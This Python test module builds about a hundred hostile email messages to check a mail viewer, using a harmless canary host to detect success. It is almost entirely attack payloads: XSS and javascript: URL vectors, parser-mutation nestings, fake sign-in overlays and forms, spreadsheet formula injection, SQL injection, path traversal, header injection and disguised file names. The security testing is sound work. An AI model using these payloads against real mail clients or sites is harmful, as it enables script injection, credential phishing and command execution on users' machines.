"""hostile.py - some hundred mails of our own making that attack who looks at them

    for mail in mails(): mail.name, mail.octets, mail.words

Each holds one attack, made from the classes below by their contexts.  Where one
works, its canary is seen: a line `canary NAME` on the console, a request to
canary.example, `canary` in the top window, or something outside its box.

`words` stand in the text of each (a flag is raised by WORD), so that a test can
see that the mail was shown; SECRET stands in subject, names and text and may
never stand in a title or an address of the browser.
"""
import base64
import collections
import quopri
import struct

WORD = "glumbershow"
SECRET = "zebrasecret"
HOST = "canary.example"

Mail = collections.namedtuple("Mail", "name octets words")

# What a script does where it runs; NAME becomes the mail's.
JS = ("console.error('canary NAME');try{top.canary='NAME'}catch(e){};"
      "new Image().src='https://canary.example/NAME'")
URL = "https://canary.example/NAME"


def entities(text, form="&#%d;"):
    return "".join(form % ord(one) for one in text)


def escapes(text, form="\\u%04x"):
    return "".join(form % ord(one) for one in text)


# -- HTML: JS and URL are put in -----------------------------------------------

SCRIPTS = [
    "<script>JS</script>",
    "<SCRIPT SRC=URL></SCRIPT>",
    "<script src='//canary.example/NAME'></script>",
    "<script type=module>JS</script>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<script/x>JS</script/x>",
    "<script\x0c>JS</script\x0c>",
    "<script\x00>JS</script>",
    "<<script>JS//<</script>",
    "<script>JS",
    "</title><script>JS</script>",
    "</textarea><script>JS</script>",
    "--><script>JS</script>",
    "]]><script>JS</script>",
    "</style></script><script>JS</script>",
    "</noscript><script>JS</script>",
    "'\"><script>JS</script>",
    "</bdi></div></main><script>JS</script>",
    "<script>JS</script \"a\">",
    "<template><script>JS</script></template>",
    "<xmp><script>JS</script></xmp>",
    "<plaintext><script>JS</script>",
    "<!--><script>JS</script>-->",
    "<!--!><script>JS</script>",
    "<![CDATA[><script>JS</script>]]>",
    "<?xml version='1.0'?><script>JS</script>",
    "<?php <script>JS</script> ?>",
    "<% <script>JS</script> %>",
    "{{constructor.constructor('JS')()}}",
    "${JS}",
    "&lt;script&gt;JS&lt;/script&gt;",
    "%3Cscript%3EJS%3C/script%3E",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "\uff1cscript\uff1eJS\uff1c/script\uff1e",
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
]

# Elements that have a handler which fires by itself, and the handler.
FIRING = [
    ("img src=x", "onerror"), ("img src=data:,", "onerror"),
    ("image src=x", "onerror"), ("body", "onload"), ("body", "onpageshow"),
    ("svg", "onload"), ("video src=x", "onerror"),
    ("video><source src=x", "onerror"), ("audio src=x", "onerror"),
    ("iframe", "onload"), ("object data=x", "onerror"), ("embed src=x", "onload"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"),
    ("a autofocus tabindex=0", "onfocus"), ("details open", "ontoggle"),
    ("marquee", "onstart"), ("style", "onload"), ("link rel=stylesheet href=x",
                                                  "onerror"),
    ("div style='animation:busy 1s'", "onanimationstart"),
    ("div style='transition:color 1s;color:red'", "ontransitionrun"),
    ("div contenteditable autofocus", "onfocus"),
    ("div popover id=p", "onbeforetoggle"),
    ("p style='content-visibility:auto'", "oncontentvisibilityautostatechange"),
    ("dialog open", "onclose"), ("track src=x", "onerror"),
    ("meter autofocus tabindex=1", "onfocus"), ("input type=image src=x",
                                                "onerror"),
]
HANDLERS = ["<{element} {handler}=\"JS\">", "<{element}/{handler}='JS'>"]

# javascript: as an address, written in the ways that browsers have read it.
SCHEMES = [
    "javascript:JS", "JaVaScRiPt:JS", " javascript:JS", "\tjavascript:JS",
    "java\tscript:JS", "java\nscript:JS", "java&#9;script:JS",
    "java&Tab;script:JS", "java&NewLine;script:JS", "javascript&colon;JS",
    "&#x6a;avascript:JS", "&#0000106avascript:JS", "&#106&#97vascript:JS",
    "\x01javascript:JS", "\u00a0javascript:JS", "javascript\u200b:JS",
    "javascript://x%0aJS", "javascript:void(JS)", "vbscript:JS",
    "livescript:JS", "data:text/html,<script>JS</script>",
    "data:text/html;base64,BASE64", "data:image/svg+xml,<svg onload=\"JS\">",
    "data:application/xhtml+xml;base64,BASE64", "DATA:TEXT/HTML,<script>JS"
    "</script>", "blob:https://canary.example/NAME", "file:///etc/passwd",
    "//canary.example/NAME", "\\\\canary.example\\NAME", "/\\canary.example/NAME",
    "https:canary.example/NAME", "view-source:URL", "feed:javascript:JS",
    "jar:URL!/x", "filesystem:URL",
]
ADDRESSED = ["<a href=\"{address}\" autofocus>WORDS</a>",
             "<iframe src=\"{address}\"></iframe>"]

LOADS = [
    "<img src=URL>", "<img srcset='URL 1x'>", "<img src=x lowsrc=URL>",
    "<picture><source srcset=URL><img></picture>", "<image href=URL>",
    "<input type=image src=URL>", "<body background=URL>",
    "<table background=URL><td background=URL>x</table>",
    "<video poster=URL></video>", "<video src=URL autoplay></video>",
    "<audio src=URL autoplay></audio>", "<object data=URL></object>",
    "<embed src=URL>", "<applet code=URL></applet>", "<iframe src=URL></iframe>",
    "<frameset><frame src=URL></frameset>", "<portal src=URL></portal>",
    "<fencedframe src=URL></fencedframe>",
    "<iframe srcdoc=\"<script>JS</script><img src=URL>\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;JS&lt;/script&gt;\"></iframe>",
    "<link rel=stylesheet href=URL>", "<link rel=prefetch href=URL>",
    "<link rel=dns-prefetch href=//canary.example>",
    "<link rel=preconnect href=//canary.example>",
    "<link rel=modulepreload href=URL>", "<link rel=icon href=URL>",
    "<link rel=manifest href=URL>", "<link rel=import href=URL>",
    "<base href=https://canary.example/><img src=NAME>",
    "<base target=_top href=https://canary.example/>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<meta name=referrer content=unsafe-url><img src=URL>",
    "<a href=x ping=URL autofocus>x</a>", "<blockquote cite=URL>x</blockquote>",
    "<html manifest=URL>", "<html xmlns:x=URL>",
    "<bgsound src=URL>", "<isindex type=image src=URL>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"URL\"]}]}</script>",
]

STYLES = [
    "<style>@import 'URL';</style>", "<style>@import url(URL);</style>",
    "<style>body{background:url(URL)}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    "<style>*{display:none!important}</style>",
    "<style>#main{position:fixed;top:0}</style>",
    "<style>h1::before{content:'fake'}a[href*=a]{background:url(URL)}</style>",
    "<style>@media all{*{list-style:url(URL)}}</style>",
    "<style>*{--x:url(URL);background:var(--x)}</style>",
    "<style>*{cursor:url(URL),auto}</style>",
    "<style>@namespace url(URL);</style>",
    "<style></style><script>JS</script></style>",
    "<div style='background:url(URL)'>x</div>",
    "<div style='background:url(&quot;URL&quot;)'>x</div>",
    "<div style='background:\\75rl(URL)'>x</div>",
    "<div style='background:u/**/rl(URL)'>x</div>",
    "<div style='background-image:image-set(\"URL\" 1x)'>x</div>",
    "<div style='--a:url(URL);background:var(--a)'>x</div>",
    "<div style='width:expression(JS)'>x</div>",
    "<div style='behavior:url(URL)'>x</div>",
    "<div style='-moz-binding:url(URL)'>x</div>",
    "<div style='mask:url(URL#x);filter:url(URL#x);clip-path:url(URL#x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;"
    "z-index:99999;background:#fff'>WORDS sign in again</div>",
    "<div style='position:absolute;top:-999px'>x</div>",
    "<div style='margin:-500px;transform:scale(40)'>x</div>",
    "<div style='font-size:900px'>x</div>",
    "<p class='header nav error-summary' id=main>x</p>",
    "<div id=status>x</div><input name=token id=busy>",
    "<form id=person name=cookie><input name=getElementById></form>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
]

DRAWINGS = [
    "<svg><script>JS</script></svg>", "<svg><script href=URL /></svg>",
    "<svg><script>&#99;onsole.error('canary NAME')</script></svg>",
    "<svg><a xlink:href=\"javascript:JS\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=\"JS\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"JS\" attributeName=x to=1>",
    "<svg><animate attributeName=href values=\"javascript:JS\"/><a id=a><text "
    "y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href to=\"javascript:JS\" begin=0s />"
    "<text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,BASE64#x'/></svg>",
    "<svg><use xlink:href='URL#x'/></svg>", "<svg><image href=URL /></svg>",
    "<svg><feImage href=URL /></svg>",
    "<svg><foreignObject><iframe src=URL></iframe></foreignObject></svg>",
    "<svg><foreignObject><body onload=\"JS\"></foreignObject></svg>",
    "<svg><style>@import 'URL';</style></svg>",
    "<svg><style>&lt;img src=x onerror=\"JS\"&gt;</style></svg>",
    "<svg><handler xmlns:ev='x' ev:event=load>JS</handler></svg>",
    "<svg><discard onbegin=\"JS\"/></svg>",
    "<svg><animateTransform onbegin=\"JS\" attributeName=transform>",
    "<svg><fill values=\"javascript:JS\"><mask id=x><image href=URL /></svg>",
    "<svg><filter id=x><feImage xlink:href=URL /></filter></svg>",
    "<svg width=9999 height=9999 style='position:fixed'><rect width=9999 "
    "height=9999 /></svg>",
    "<math href=\"javascript:JS\">x</math>",
    "<math><maction actiontype='statusline#URL' xlink:href=\"javascript:JS\">x",
    "<math><annotation-xml encoding='text/html'><script>JS</script>",
    "<math><mtext><script>JS</script></mtext></math>",
]

# Nestings that one parser closes where another does not (mutation).
NESTINGS = [
    "<svg></p><style><a id=\"</style><img src=x onerror='JS'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
    "&lt;img src=x onerror='JS'&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x "
    "onerror='JS'>",
    "<noscript><p title=\"</noscript><img src=x onerror='JS'>\">",
    "<listing>&lt;img src=x onerror='JS'&gt;</listing>",
    "<textarea><img src='</textarea><img src=x onerror=JS>'>",
    "<title><p title='</title><img src=x onerror=\"JS\">'>",
    "<select><template><style><!--</style><a rel=\"--></style></template>"
    "</select><img src=x onerror='JS'>\">",
    "<table><td><svg><desc><td></desc><script>JS</script>",
    "<a title=\"`\"><img alt='` src=x onerror=JS//'>",
    "<p id=\"&lt;/p&gt;&lt;script&gt;JS&lt;/script&gt;\">",
    "<style><!--</style><script>JS//--></script>",
    "<xss foreign='><script>JS</script>'>",
    "<img alt=\"x\" title=\"a\" <script>JS</script>",
    "<iframe><!--</iframe><script>JS</script>-->",
    "<noembed><img title='</noembed><script>JS</script>'></noembed>",
    "<svg><title><style><img src='</style></title><script>JS</script>'>",
    "<frameset></frameset><noframes></noframes><script>JS</script>",
    "<br" * 400 + "><script>JS</script>",
    "<div>" * 3000 + "<script>JS</script>",
    "<b>" * 600 + "</i>" * 600 + "<img src=x onerror='JS'>",
    "<p " + " ".join(f"a{i}=b" for i in range(900)) + " onclick=\"JS\">x",
]

FORMS = [
    "<form action=URL><input name=password type=password autofocus></form>",
    "<form action=URL id=f></form><button form=f autofocus>Sign in</button>",
    "<form><button formaction=\"javascript:JS\">Sign in</button></form>",
    "<form action=\"javascript:JS\"><input type=submit></form>",
    "<form method=dialog><button>Close</button></form></dialog>",
    "<isindex action=\"javascript:JS\">",
    "<input type=password autocomplete=current-password>",
    "<button popovertarget=p>x</button><div popover id=p>WORDS</div>",
    "<dialog open class=dialog>Sign in again</dialog>",
    "<a href=# target=_blank rel=opener>x</a><a href=#/sign-in>Sign out</a>",
]

# What is text, and shall be it.
PLAIN = [
    "\u202etxt.exe\u202c", "\u2066\u2067\u2068", "\u200f\u200e" * 40,
    "\u202e" * 200 + "turned", "abc\u2028def\u2029ghi", "\ufeff" * 50,
    "\u200b".join(SECRET), "\u00ad" * 300, "\U000e0041\U000e0042\U000e0043",
    "Z" + "\u0310\u0334\u0489" * 90, ("Z" + "\u0334" * 40) * 60,
    "\ufdfd" * 80, "W" * 20000, "\u3164\uffa0\u2800" * 30,
    "\x1b[2J\x1b[1;1H\x1b]0;owned\x07", "\x1b]8;;URL\x07x\x1b]8;;\x07",
    "\x08" * 60 + "gone", "\x00NUL\x00", "\r\rlone\rreturns\r",
    "a\x0bb\x0cc\x85d", "\ud7ff\ufffe\uffff\U0001ffff\U0010ffff",
    "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1",
    "\"},{\"error\":\"x\",\"rows\":[", "</script><!--\"'`${}{{}}\\",
    "{\"__proto__\":{\"x\":1}}", "%00%0d%0aSet-Cookie: a=b", "../../../etc/passwd",
    "' OR 1=1; DROP TABLE message; --", "\\'; DROP TABLE flag; --",
    "javascript:JS", "URL", "x\n" * 4000, " " * 3000 + "|",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50, "\u0600\u0601\u06dd",
    "&#60;b&#62;", "<b>bold</b>",
]

# What stands in a field that mail chose.
FIELDS = [
    "<script>JS</script>", "\"><img src=x onerror=\"JS\">", "'><svg onload=JS>",
    "<img src=URL>", "</title><script>JS</script>", "javascript:JS",
    "\u202egnp.exe", "\u200b\u200b\u2066", "Z" + "\u0334" * 60,
    "=cmd|'/c calc'!A1", "\x1b[31mred", "{{7*7}}${7*7}", "%0d%0aX-Evil: 1",
    "\"},{\"a\":\"", "W" * 900, "&lt;script&gt;JS&lt;/script&gt;",
]

NAMES = [
    "<img src=x onerror=JS>.pdf", "\"><script>JS</script>.txt",
    "../../../etc/cron.d/x", "..\\..\\windows\\x.exe", "/etc/passwd", "C:\\x.bat",
    "invoice\u202efdp.exe", "a\u200bb.txt", "con.txt", "x.html", "x.svg",
    "=cmd|'/c calc'!A1.csv", "a\r\nContent-Type: text/html\r\n\r\nJS.txt",
    "a\"; filename=\"b.html", "a;b=c.html", "W" * 300 + ".txt", ".", "..", "",
    " .htaccess", "x.pdf .exe", "x.pdf" + " " * 120 + ".exe", "%2e%2e%2fx",
    "&quot;><script>JS</script>", "\U0001f4a9.txt", "\x1b[2Jx.txt",
    "x.txt\x00.html", "Z" + "\u0334" * 60 + ".txt",
]


def html_payloads():
    yield from (("script", one) for one in SCRIPTS)
    for element, handler in FIRING:
        for form in HANDLERS:
            yield "handler", form.format(element=element, handler=handler)
    for address in SCHEMES:
        for form in ADDRESSED:
            yield "address", form.format(address=address)
    for kind, payloads in [("load", LOADS), ("style", STYLES),
                           ("drawing", DRAWINGS), ("nesting", NESTINGS),
                           ("form", FORMS)]:
        yield from ((kind, one) for one in payloads)


# -- mails ---------------------------------------------------------------------

def armed(payload, name):
    inner = f"<script>{JS}</script>".replace("NAME", name)
    return (payload.replace("JS", JS.replace('"', "'"))
            .replace("URL", URL)
            .replace("BASE64", base64.b64encode(inner.encode()).decode())
            .replace("WORDS", f"{WORD} {SECRET}").replace("NAME", name))


def encoded_word(text, charset="utf-8"):
    """One encoded word, of any length: what it holds counts, not its form."""
    octets = base64.b64encode(text.encode(charset, "surrogatepass")).decode()
    return f"=?{charset}?B?{octets}?="


def head(name, fields):
    default = {
        "From": f"Ann {SECRET} <hostile@elsewhere.example>",
        "To": "b@school.example", "Subject": f"{SECRET} {name}",
        "Message-ID": f"<{name}@elsewhere.example>",
        "Date": "Mon, 23 Nov 2026 09:12:33 +0000", "MIME-Version": "1.0",
    }
    default.update(fields)
    return "".join(f"{field}: {value}\r\n"
                   for field, value in default.items() if value is not None)


def single(name, octets, kind, fields=None, how="base64"):
    more = dict(fields or {})
    more.setdefault("Content-Type", kind)
    more.setdefault("Content-Transfer-Encoding", how)
    body = (base64.encodebytes(octets).replace(b"\n", b"\r\n")
            if how == "base64" else
            quopri.encodestring(octets).replace(b"\n", b"\r\n")
            if how == "quoted-printable" else octets)
    return head(name, more).encode("utf-8", "surrogateescape") + b"\r\n" + body


def html(name, payload):
    page = (f"<html><head><title>{SECRET}</title></head><body><p>{WORD} "
            f"{SECRET}</p>{payload}<p>end</p></body></html>")
    return single(name, page.encode("utf-8", "replace"),
                  "text/html; charset=utf-8")


def with_attachment(name, disposition, kind="application/octet-stream",
                    octets=b"attached\r\n", fields=None):
    lines = [head(name, {"Content-Type": "multipart/mixed; boundary=b",
                         **(fields or {})}), "\r\n--b\r\n"
             "Content-Type: text/plain; charset=utf-8\r\n\r\n",
             f"{WORD} {SECRET}\r\n--b\r\nContent-Type: {kind}\r\n"
             f"Content-Transfer-Encoding: base64\r\n{disposition}\r\n"]
    return ("".join(lines).encode("utf-8", "surrogateescape")
            + base64.encodebytes(octets).replace(b"\n", b"\r\n")
            + b"--b--\r\n")


def file_name_2231(text):
    octets = text.encode("utf-8", "surrogatepass")
    quoted = "".join(f"%{one:02X}" for one in octets)
    pieces = [quoted[i:i + 60] for i in range(0, len(quoted), 60)] or [""]
    pieces[0] = f"utf-8''{pieces[0]}"
    return "Content-Disposition: attachment" + "".join(
        f";\r\n filename*{i}*={piece}"
        for i, piece in enumerate(pieces)) + "\r\n"


def tnef(title):
    """A winmail.dat with one attachment of this title (MS-OXTNEF 2.1.3)."""
    def attribute(level, number, octets):
        return (struct.pack("<BII", level, number, len(octets)) + octets
                + struct.pack("<H", sum(octets) & 0xffff))
    named = title.encode("cp1252", "replace") + b"\0"
    return (struct.pack("<IH", 0x223e9f78, 1)
            + attribute(1, 0x00089006, struct.pack("<I", 0x10000))
            + attribute(2, 0x00069002, b"\x01\0" + b"\xff" * 4 + b"\0" * 8)
            + attribute(2, 0x00018010, named)
            + attribute(2, 0x0006800f, b"inner octets"))


def structures():
    """Mails whose form is the attack: (class, fields and body as octets)."""
    page = f"<p>{WORD} {SECRET}</p><script>{JS}</script>"
    yield "utf7", lambda n: single(
        n, page.replace("<", "+ADw-").replace(">", "+AD4-").replace("NAME", n)
        .encode(), "text/html; charset=utf-7", how="8bit")
    for charset, codec in [("utf-16", "utf-16"), ("utf-16le", "utf-16-le"),
                           ("utf-16be", "utf-16-be"), ("utf-32", "utf-32"),
                           ("iso-2022-jp", "iso2022_jp"), ("hz-gb-2312", "hz"),
                           ("x-user-defined", "latin-1"), ("ibm037", "cp037"),
                           ("\"><script>", "ascii"), ("", "ascii")]:
        yield "charset", lambda n, c=charset, k=codec: single(
            n, page.replace("NAME", n).encode(k, "replace"),
            f"text/html; charset=\"{c}\"")
    for kind in ["text/html", "TEXT/HTML; x=\"<script>JS</script>\"",
                 "image/svg+xml", "application/xhtml+xml", "text/xml",
                 "text/enriched", "text/x-<script>JS</script>",
                 "multipart/related", "message/external-body; url=URL",
                 "text/html\u202e", "application/x-unknown; name=\"<svg onload="
                 "JS>\"", "x/" + "y" * 4000]:
        yield "type", lambda n, k=kind: single(
            n, page.replace("NAME", n).encode(), armed(k, n),
            how="quoted-printable")
    for kind in ["text/html", "image/svg+xml", "text/html; charset=utf-7",
                 "application/pdf", "message/rfc822", "text/x-<b>"]:
        yield "inline", lambda n, k=kind: with_attachment(
            n, f"Content-Disposition: inline; filename=\"{n}.html\"\r\n", k,
            page.replace("NAME", n).encode())
    for fold in ["\r\n ", "\r\n\t", "\r\n \r\n ", "\r\n" + " " * 900]:
        yield "fold", lambda n, f=fold: single(
            n, f"{WORD}\r\n".encode(), "text/plain", {
                "Subject": f"{SECRET}{f}<script>{JS.replace('NAME', n)}"
                f"</script>{f}end"}, how="7bit")
    for message_id in ["<script>JS</script>@x", "\"><img src=URL>@x",
                       "<a\u202eb@x>", "<" + "y" * 700 + "@x>"]:
        yield "message-id", lambda n, m=message_id: single(
            n, f"{WORD}\r\n".encode(), "text/plain",
            {"Message-ID": armed(m, n)}, how="7bit")


def field_mails():
    for text in FIELDS:
        for field, form in [("Subject", "{word}"),
                            ("From", "{word} <hostile@elsewhere.example>"),
                            ("To", "{word} <b@school.example>")]:
            yield "field", lambda n, t=text, f=field, m=form: single(
                n, f"{WORD} {SECRET}\r\n".encode(), "text/plain",
                {f: m.format(word=encoded_word(armed(t, n)))}, how="7bit")


def name_mails():
    for text in NAMES:
        yield "file", lambda n, t=text: with_attachment(
            n, file_name_2231(armed(t, n)))
        yield "file-tnef", lambda n, t=text: with_attachment(
            n, "Content-Disposition: attachment; filename=winmail.dat\r\n",
            "application/ms-tnef", tnef(armed(t, n)))


def makers():
    """All attacks, as (class, function of a name that makes the octets)."""
    for kind, payload in html_payloads():
        yield kind, lambda n, p=payload: html(n, armed(p, n))
    for text in PLAIN:
        yield "plain", lambda n, t=text: single(
            n, f"{WORD} {SECRET} {armed(t, n)}\r\n".encode(
                "utf-8", "surrogatepass"), "text/plain; charset=utf-8")
    yield from field_mails()
    yield from name_mails()
    yield from structures()


def mails():
    counts = collections.Counter()
    for kind, maker in makers():
        counts[kind] += 1
        name = f"{kind}-{counts[kind]}"
        yield Mail(name, maker(name), (WORD,))


if __name__ == "__main__":
    for mail in mails():
        print(mail.name, len(mail.octets))
